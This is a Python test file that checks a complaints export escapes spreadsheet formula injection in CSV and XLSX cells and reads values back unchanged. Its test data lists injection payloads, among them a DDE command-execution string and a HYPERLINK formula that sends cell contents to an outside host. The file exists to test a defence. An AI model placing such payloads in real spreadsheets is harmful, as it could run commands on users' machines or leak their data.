"""No cell that we write is a formula in any program, and text is preserved."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import load_workbook

from models.complaints.file import AnswerRow, TemplateFormat, TemplateRow, write_answer, write_template
from models.tabular.formulas import neutralise, restore
from rules.complaint import ComplaintReason, ComplaintVerdict
from rules.visibility import DeliveryKind

HOSTILE = (
    "=1+1",
    "+49 170 1234567",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    'a",=1+1,"',
    "a;=1+1",
    "a,@SUM(1)",
    "{=1+1}",
    "http://example.com",
    "12",
    "_x0041_",
    "a\x00b\x0bc",
    "\ud800",
)
# What begins a formula at the start of a cell, as Excel, LibreOffice and Google Sheets split the file into
# cells.
_CALCULATED = re.compile(r"[\s\ufeff]*[=+\-@\uff1d]")


def _hostile_row(text: str) -> TemplateRow:
    return TemplateRow(text, text, DeliveryKind.RECORD, text, text, text, text, text, text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula_however_it_is_cut(text: str) -> None:
    content = write_template([_hostile_row(text)], "de", TemplateFormat.CSV).decode("utf-8-sig")
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if _CALCULATED.match(cell)], delimiter


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula_link_or_number(text: str) -> None:
    answer = AnswerRow(
        2,
        text,
        text,
        ComplaintReason.NO_ANSWER,
        text,
        ComplaintVerdict.REJECTED,
        text,
        text,
        replacement_title=text,
    )
    for content in (
        write_template([_hostile_row(text)], "en", TemplateFormat.XLSX),
        write_answer([answer], "C-1", "en"),
    ):
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
        for sheet in sheets:
            assert not re.search(rb"<f[ >/]|<hyperlink", sheet)
            assert set(re.findall(rb'<c [^>]*?t="(\w+)"', sheet)) == {b"inlineStr"}
            assert not re.search(rb'<c (?![^>]*t="inlineStr")[^>]*><v>', sheet)
        load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def test_a_dangerous_cell_stays_text_when_it_is_edited() -> None:
    content = write_template([_hostile_row("=1+1")], "en", TemplateFormat.XLSX)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b'quotePrefix="1"' in parts.read("xl/styles.xml")
    assert load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1][0] == "=1+1"


def test_a_phone_number_survives_both_ways() -> None:
    assert neutralise("+491701234567") == "'+491701234567"
    assert restore("'+491701234567") == "+491701234567"
    assert restore("+491701234567") == "+491701234567"


@given(st.text() | st.text(alphabet="=+-@'\t\r\n ;,|a\uff1d\u200b\ufeff"))
def test_reading_gives_back_what_was_written(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text(alphabet="=+-@'\t\r\n ;,|a\uff1d\u200b\ufeff"))
def test_no_neutralised_cell_is_calculated(text: str) -> None:
    for cell in re.split("[;,|\t\r\n]", neutralise(text)):
        assert not _CALCULATED.match(cell)
